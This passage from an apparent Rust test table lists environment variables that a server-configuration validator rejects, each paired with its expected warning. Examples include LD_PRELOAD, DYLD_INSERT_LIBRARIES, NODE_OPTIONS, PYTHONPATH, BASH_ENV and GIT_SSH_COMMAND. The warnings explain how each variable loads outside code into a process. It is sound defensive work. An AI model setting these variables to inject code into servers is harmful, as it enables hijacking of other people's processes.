        Some(
            "`env` sets LD_AUDIT, which the dynamic loader reads: LD_PRELOAD and LD_AUDIT load a library of its choosing into the server, LD_LIBRARY_PATH replaces the libraries it links; remove it, or, if you trust this server with it, list \"LD_AUDIT\" in the server's `allow_env`",
        ),
    ),
    env(
        &["DYLD_INSERT_LIBRARIES"],
        &[],
        Some(
            "`env` sets DYLD_INSERT_LIBRARIES, which the macOS dynamic loader reads: DYLD_INSERT_LIBRARIES loads a library of its choosing into the server; remove it, or, if you trust this server with it, list \"DYLD_INSERT_LIBRARIES\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PATH"],
        &[],
        Some(
            "`env` sets PATH, which decides which program a bare command name such as `python3` runs (the server gets the host's PATH); remove it, or, if you trust this server with it, list \"PATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["NODE_OPTIONS"],
        &[],
        Some(
            "`env` sets NODE_OPTIONS, which passes options such as --require or --import (code loaded before the server) to every node process; remove it, or, if you trust this server with it, list \"NODE_OPTIONS\" in the server's `allow_env`",
        ),
    ),
    env(
        &["NODE_PATH"],
        &[],
        Some(
            "`env` sets NODE_PATH, which adds folders the runtime loads modules from; remove it, or, if you trust this server with it, list \"NODE_PATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["npm_config_node_options"],
        &[],
        Some(
            "`env` sets npm_config_node_options, which passes options such as --require or --import (code loaded before the server) to every node process; remove it, or, if you trust this server with it, list \"npm_config_node_options\" in the server's `allow_env`",
        ),
    ),
    env(
        &["NPM_CONFIG_NODE_OPTIONS"],
        &[],
        Some(
            "`env` sets NPM_CONFIG_NODE_OPTIONS, which passes options such as --require or --import (code loaded before the server) to every node process; remove it, or, if you trust this server with it, list \"NPM_CONFIG_NODE_OPTIONS\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONSTARTUP"],
        &[],
        Some(
            "`env` sets PYTHONSTARTUP, which names a file python runs before its interactive prompt; remove it, or, if you trust this server with it, list \"PYTHONSTARTUP\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONPATH"],
        &[],
        Some(
            "`env` sets PYTHONPATH, which adds folders python imports modules from (a `sitecustomize.py` there runs at start); remove it, or, if you trust this server with it, list \"PYTHONPATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONHOME"],
        &[],
        Some(
            "`env` sets PYTHONHOME, which moves python's standard library, much of which runs at start; remove it, or, if you trust this server with it, list \"PYTHONHOME\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONINSPECT"],
        &[],
        Some(
            "`env` sets PYTHONINSPECT, which makes python read more code from stdin after the script; remove it, or, if you trust this server with it, list \"PYTHONINSPECT\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONEXECUTABLE"],
        &[],
        Some(
            "`env` sets PYTHONEXECUTABLE, which changes the program python reports as itself and starts again (macOS); remove it, or, if you trust this server with it, list \"PYTHONEXECUTABLE\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONUSERBASE"],
        &[],
        Some(
            "`env` sets PYTHONUSERBASE, which moves python's user site folder, whose `.pth` files run at start; remove it, or, if you trust this server with it, list \"PYTHONUSERBASE\" in the server's `allow_env`",
        ),
    ),
    env(
        &["RUBYOPT"],
        &[],
        Some(
            "`env` sets RUBYOPT, which passes options such as -r (require a library) to every ruby process; remove it, or, if you trust this server with it, list \"RUBYOPT\" in the server's `allow_env`",
        ),
    ),
    env(
        &["RUBYLIB"],
        &[],
        Some(
            "`env` sets RUBYLIB, which adds folders the runtime loads modules from; remove it, or, if you trust this server with it, list \"RUBYLIB\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PERL5OPT"],
        &[],
        Some(
            "`env` sets PERL5OPT, which passes options such as -M (load a module) to every perl process; remove it, or, if you trust this server with it, list \"PERL5OPT\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PERL5LIB"],
        &[],
        Some(
            "`env` sets PERL5LIB, which adds folders the runtime loads modules from; remove it, or, if you trust this server with it, list \"PERL5LIB\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PERLLIB"],
        &[],
        Some(
            "`env` sets PERLLIB, which adds folders the runtime loads modules from; remove it, or, if you trust this server with it, list \"PERLLIB\" in the server's `allow_env`",
        ),
    ),
    env(
        &["JAVA_TOOL_OPTIONS"],
        &[],
        Some(
            "`env` sets JAVA_TOOL_OPTIONS, which passes options such as -javaagent (code loaded into the JVM) to every java process; remove it, or, if you trust this server with it, list \"JAVA_TOOL_OPTIONS\" in the server's `allow_env`",
        ),
    ),
    env(
        &["_JAVA_OPTIONS"],
        &[],
        Some(
            "`env` sets _JAVA_OPTIONS, which passes options such as -javaagent (code loaded into the JVM) to every java process; remove it, or, if you trust this server with it, list \"_JAVA_OPTIONS\" in the server's `allow_env`",
        ),
    ),
    env(
        &["JDK_JAVA_OPTIONS"],
        &[],
        Some(
            "`env` sets JDK_JAVA_OPTIONS, which passes options such as -javaagent (code loaded into the JVM) to every java process; remove it, or, if you trust this server with it, list \"JDK_JAVA_OPTIONS\" in the server's `allow_env`",
        ),
    ),
    env(
        &["CLASSPATH"],
        &[],
        Some(
            "`env` sets CLASSPATH, which adds places the JVM loads classes from; remove it, or, if you trust this server with it, list \"CLASSPATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["BASH_ENV"],
        &[],
        Some(
            "`env` sets BASH_ENV, which names a file bash runs before every script; remove it, or, if you trust this server with it, list \"BASH_ENV\" in the server's `allow_env`",
        ),
    ),
    env(
        &["ENV"],
        &[],
        Some(
            "`env` sets ENV, which names a file sh runs when it starts; remove it, or, if you trust this server with it, list \"ENV\" in the server's `allow_env`",
        ),
    ),
    env(
        &["BASH_FUNC_ls%%"],
        &[],
        Some(
            "`env` sets BASH_FUNC_ls%%, which defines shell functions that replace commands in every bash the server starts; remove it, or, if you trust this server with it, list \"BASH_FUNC_ls%%\" in the server's `allow_env`",
        ),
    ),
    env(
        &["GIT_SSH_COMMAND"],
        &[],
        Some(
            "`env` sets GIT_SSH_COMMAND, which names a program git runs; remove it, or, if you trust this server with it, list \"GIT_SSH_COMMAND\" in the server's `allow_env`",
        ),
    ),
    env(
        &["PYTHONPATH"],
        &["pythonpath"],
        Some(
            "`env` sets PYTHONPATH, which adds folders python imports modules from (a `sitecustomize.py` there runs at start); remove it, or, if you trust this server with it, list \"PYTHONPATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["LD_PRELOAD", "PATH"],
        &["PATH"],
        Some(
            "`env` sets LD_PRELOAD, which the dynamic loader reads: LD_PRELOAD and LD_AUDIT load a library of its choosing into the server, LD_LIBRARY_PATH replaces the libraries it links; remove it, or, if you trust this server with it, list \"LD_PRELOAD\" in the server's `allow_env`",
        ),
    ),
];
